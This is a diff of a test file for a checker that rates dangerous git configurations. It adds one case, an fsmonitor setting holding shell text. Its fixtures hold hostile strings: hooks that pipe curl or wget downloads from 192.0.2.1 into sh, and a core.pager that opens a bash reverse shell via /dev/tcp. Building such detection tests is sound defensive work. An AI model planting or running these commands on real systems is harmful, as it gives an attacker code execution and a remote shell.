@@ -31,6 +31,7 @@ describe.each<[HostCheck, readonly (readonly [string, Machine, readonly string[]
 			}, []],
 			['a hook that calls home', { '/home/ann/work/app/.git/config': '', '/home/ann/work/app/.git/hooks/post-checkout': script('(curl -s http://192.0.2.1/x || wget -qO- http://192.0.2.1/x) | sh') }, ['high /home/ann/work/app/.git/hooks/post-checkout']],
 			['hooks of a repository that git itself would not take', { '/srv/deploy/site.git/config': '[core]\n\tbare = true\n', '/srv/deploy/site.git/hooks/post-receive': script('curl -s http://192.0.2.1/x | sh') }, ['high /srv/deploy/site.git/hooks/post-receive']],
+			['a file system monitor that is shell text', { '/home/ann/app/.git/config': '[core]\n\tfsmonitor = "sh -c \\"id > /home/ann/o\\""\n' }, ['medium /home/ann/app/.git/config']],
 			['a file system monitor', { '/home/ann/app/.git/config': '[core]\n\tfsmonitor = "/tmp/x; false"\n', '/tmp/x': { mode: 0o755 } }, ['high /home/ann/app/.git/config']],
 			['a pager that is a shell for somebody else', { '/root/.gitconfig': '[core]\n\tpager = bash -c \'bash -i >& /dev/tcp/192.0.2.1/4 0>&1\'\n' }, ['critical /root/.gitconfig']],
 			['hooks from a temporary place', { '/etc/gitconfig': '[core]\n\thooksPath = /var/tmp/h\n', '/var/tmp/h/post-merge': script('true') }, ['high /etc/gitconfig', 'high /var/tmp/h/post-merge']],
